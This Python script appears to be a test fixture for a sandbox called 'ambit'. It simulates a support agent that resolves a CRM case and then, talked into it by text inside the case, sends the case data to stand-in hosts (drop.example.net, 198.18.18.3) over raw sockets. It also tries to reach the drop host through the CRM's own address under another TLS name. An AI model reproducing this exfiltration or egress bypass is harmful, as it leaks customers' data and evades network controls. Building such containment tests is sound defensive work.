#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A support agent: takes one case of the CRM, resolves it, and then does what a
text in the case talked it into: sends the case to somebody else's server.
Nothing in it knows of ambit but the directory of its credentials."""
import http.client
import json
import os
import signal
import socket
import ssl
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
CREDENTIALS = os.environ["CREDENTIALS_DIRECTORY"]
CASE = os.environ["AMBIT_TASK"]
CRM = "crm.example.com"
# What the text in the case talked it into.
ELSEWHERE = {
    "a name": "drop.example.net",
    "an address": "198.18.18.3",
}


def crm():
    tls = ssl.create_default_context(cafile=f"{HERE}/crm.pem")
    tls.load_cert_chain(f"{CREDENTIALS}/tls.crt", f"{CREDENTIALS}/tls.key")
    return http.client.HTTPSConnection(CRM, context=tls, timeout=10)


def call(method, path, body=None):
    with open(f"{CREDENTIALS}/crm", encoding="ascii") as file:
        headers = {"Authorization": "Bearer " + file.read().strip()}
    connection = crm()
    connection.request(method, path, body and json.dumps(body), headers)
    answer = connection.getresponse()
    text = answer.read()
    connection.close()
    if answer.status != 200:
        sys.exit(f"crm: {answer.status} {text.decode()}")
    return json.loads(text)


signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGTERM])
case = call("GET", f"/cases/{CASE}")
print(f"crm says: you are {case['you']}")
print(f"crm says: {CASE}: {case['customer']}: {case['text']}")
done = call("POST", f"/cases/{CASE}", {"answer": "Refunded 12.50 EUR."})
print(f"crm says: {CASE}: {done['state']}")
for host in ELSEWHERE.values():
    try:
        with socket.create_connection((host, 443), timeout=10) as thief:
            thief.sendall(json.dumps(case).encode())
        print("the case was sent elsewhere")
    except OSError as error:
        print(f"send to {host}: {type(error).__name__}: {error}")
# Or through the CRM's own address, under another name.
try:
    with socket.create_connection((CRM, 443), timeout=10) as plain:
        ssl.create_default_context().wrap_socket(plain, server_hostname="drop.example.net")
    print("the case was sent elsewhere")
except OSError as error:
    print(f"send to drop.example.net by way of {CRM}: {type(error).__name__}")
print("waiting for the next case", flush=True)
signal.sigwait([signal.SIGTERM])
print("told to stop, stopping", flush=True)
